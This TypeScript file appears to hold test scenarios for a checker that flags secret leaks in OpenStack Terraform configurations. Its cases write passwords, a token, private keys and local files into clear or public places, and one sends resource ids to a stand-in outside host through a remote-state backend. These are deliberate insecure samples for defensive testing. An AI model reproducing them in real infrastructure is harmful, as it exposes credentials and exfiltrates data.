import { add, addServer, read, scenariosOf } from "../scenario";
import { LATER, readsLater } from "./code";

const { forbidden, person } = scenariosOf("secrets");
const PASSWORD = "tiger-lily-7731";

/** Secrets that leave or are written in clear. */
export const SECRETS = [
  forbidden(
    "secret-key-made-by-provider",
    "revidr",
    "a key pair without a public key",
    "The provider makes a private key and keeps it in the state.",
    (config) => add(config, "openstack_compute_keypair_v2", "extra", { name: "rev-extra" }),
  ),
  forbidden(
    "secret-key-in-output",
    "revidr",
    "a made key is an output",
    "A private key is written in clear.",
    (config) => {
      add(config, "openstack_compute_keypair_v2", "extra", { name: "rev-extra" });
      (config.output ??= {})["key"] = {
        value: "${nonsensitive(openstack_compute_keypair_v2.extra.private_key)}",
      };
    },
  ),
  forbidden(
    "secret-user-data",
    "revidr",
    "another server, with a password in its user data",
    "A secret is written in clear.",
    (config) =>
      addServer(config, "revidr-worker", {
        user_data: `#cloud-config\npassword: ${PASSWORD}\nchpasswd: { expire: false }\n`,
      }),
  ),
  forbidden(
    "secret-admin-pass",
    "revidr",
    "another server with a password for root",
    "A secret is written in clear into the state.",
    (config) => addServer(config, "revidr-worker", { admin_pass: PASSWORD }),
  ),
  forbidden(
    "secret-metadata",
    "revidr",
    "a password in a server's metadata",
    "Every user of the project reads it.",
    (config) =>
      addServer(config, "revidr-worker", {
        metadata: { "idr-stacks": "rev/revidr", omero_password: PASSWORD },
      }),
  ),
  forbidden(
    "secret-metadata-in-place",
    "revidr",
    "a token in the proxy's metadata",
    "Every user of the project reads it.",
    (config) =>
      void (config.resource["openstack_compute_instance_v2"]!["revidr-proxy"]!["metadata"].github_token =
        "ghp_16C7e42F292c6912E7710c838347Ae178B4a"),
  ),
  forbidden(
    "secret-personality",
    "revidr",
    "another server with a private key as a file",
    "A secret is written in clear.",
    (config) =>
      addServer(config, "revidr-worker", {
        personality: [
          {
            file: "/root/.ssh/id",
            content: "-----BEGIN OPENSSH PRIVATE KEY-----\nAAAA\n-----END OPENSSH PRIVATE KEY-----",
          },
        ],
      }),
  ),
  forbidden(
    "secret-application-credential",
    "site",
    "an application credential without limits",
    "Its secret is in the state, and opens the whole project.",
    (config) =>
      add(config, "openstack_identity_application_credential_v3", "ci", { name: "ci", unrestricted: true }),
  ),
  forbidden("secret-ec2-credential", "site", "an EC2 credential", "Its secret is in the state.", (config) =>
    add(config, "openstack_identity_ec2_credential_v3", "ci", {}),
  ),
  forbidden("secret-user", "site", "a user with a password", "A secret is written in clear.", (config) =>
    add(config, "openstack_identity_user_v3", "guest", { name: "guest", password: PASSWORD }),
  ),
  person(
    "secret-role",
    "site",
    "somebody gets a role in the project",
    "He may do everything there.",
    (config) =>
      add(config, "openstack_identity_role_assignment_v3", "guest", {
        user_id: "6f1cbb6a1c0b4f6a9d0f3c0d5b0c1a2e",
        project_id: "5f1cbb6a1c0b4f6a9d0f3c0d5b0c1a2e",
        role_id: "4f1cbb6a1c0b4f6a9d0f3c0d5b0c1a2e",
      }),
  ),
  person(
    "secret-membership",
    "site",
    "somebody joins a group of users",
    "He gets all that the group may do.",
    (config) =>
      add(config, "openstack_identity_user_membership_v3", "guest", {
        user_id: "6f1cbb6a1c0b4f6a9d0f3c0d5b0c1a2e",
        group_id: "3f1cbb6a1c0b4f6a9d0f3c0d5b0c1a2e",
      }),
  ),
  forbidden(
    "secret-keymanager",
    "site",
    "a secret is put into the key manager",
    "It is written in clear into plan and state.",
    (config) =>
      add(config, "openstack_keymanager_secret_v1", "db", {
        name: "db",
        payload: PASSWORD,
        payload_content_type: "text/plain",
        secret_type: "passphrase",
      }),
  ),
  forbidden(
    "secret-keymanager-read",
    "revidr",
    "a secret of the key manager becomes an output",
    "A secret is written in clear.",
    (config) => {
      add(config, "openstack_networking_secgroup_v2", "later", { name: "revidr-later" });
      read(config, "openstack_keymanager_secret_v1", "db", {
        name: "db",
        depends_on: ["openstack_networking_secgroup_v2.later"],
      });
      (config.output ??= {})["db"] = {
        value: "${nonsensitive(data.openstack_keymanager_secret_v1.db.payload)}",
      };
    },
  ),
  forbidden(
    "secret-nonsensitive",
    "revidr",
    "a sensitive variable's value becomes an open output",
    "A secret is written in clear.",
    (config) => {
      config.variable = { db_password: { type: "string", sensitive: true, default: PASSWORD } };
      (config.output ??= {})["login"] = { value: "${nonsensitive(var.db_password)}" };
    },
  ),
  forbidden(
    "secret-output-literal",
    "revidr",
    "an output with a password in it",
    "A secret is written in clear.",
    (config) =>
      void ((config.output ??= {})["login"] = { value: `postgres://omero:${PASSWORD}@revidr-database/idr` }),
  ),
  person(
    "secret-output-sensitive",
    "revidr",
    "a sensitive output",
    "It is kept in the state in clear.",
    (config) => void ((config.output ??= {})["login"] = { value: PASSWORD, sensitive: true }),
  ),
  forbidden(
    "secret-temp-url",
    "site",
    "a link to an object that needs no login",
    "Whoever has it reads the object.",
    (config) =>
      add(config, "openstack_objectstorage_tempurl_v1", "dump", {
        container: "dumps",
        object: "idr.sql.gz",
        method: "get",
        ttl: 31536000,
      }),
  ),
  forbidden(
    "secret-object-upload",
    "site",
    "a file of the operator's machine goes into the object store",
    "What stands in that file leaves.",
    (config) =>
      add(config, "openstack_objectstorage_object_v1", "dump", {
        container_name: "dumps",
        name: "x",
        source: "/etc/debian_version",
      }),
  ),
  person(
    "secret-container-public",
    "site",
    "a container that everybody reads",
    "What is put there is public.",
    (config) =>
      add(config, "openstack_objectstorage_container_v1", "dumps", {
        name: "dumps",
        container_read: ".r:*,.rlistings",
      }),
  ),
  forbidden(
    "secret-image-upload",
    "site",
    "a file of the operator's machine becomes a public image",
    "What stands in that file leaves.",
    (config) =>
      add(config, "openstack_images_image_v2", "extra", {
        name: "extra",
        local_file_path: "/etc/debian_version",
        container_format: "bare",
        disk_format: "raw",
        visibility: "public",
      }),
  ),
  forbidden(
    "secret-db-user",
    "revidr",
    "a user of a database service with a password",
    "A secret is written in clear.",
    (config) =>
      add(config, "openstack_db_user_v1", "omero", {
        name: "omero",
        instance_id: "2f1cbb6a-1c0b-4f6a-9d0f-3c0d5b0c1a2e",
        password: PASSWORD,
      }),
  ),
  forbidden(
    "secret-remote-state",
    "revidr",
    "a state is asked for at a stranger's, with ids of ours in the question",
    "What the plan knows leaves.",
    {
      config: (config) => {
        readsLater(config);
        const later = config.data!["terraform_remote_state"]!["later"]!;
        later["backend"] = "http";
        later["config"] = {
          address: "https://collector.example/${openstack_networking_secgroup_v2.later.id}",
        };
      },
    },
  ),
  person(
    "secret-other-state",
    "revidr",
    "the stack reads another state",
    "Its secrets come into this one.",
    LATER,
  ),
  person(
    "secret-scope",
    "revidr",
    "who the operator is becomes an output",
    "Names and roles of the operator are kept in the state.",
    (config) => {
      add(config, "openstack_networking_secgroup_v2", "later", { name: "revidr-later" });
      read(config, "openstack_identity_auth_scope_v3", "me", {
        name: "me",
        depends_on: ["openstack_networking_secgroup_v2.later"],
      });
      (config.output ??= {})["me"] = { value: "${data.openstack_identity_auth_scope_v3.me.user_name}" };
    },
  ),
];
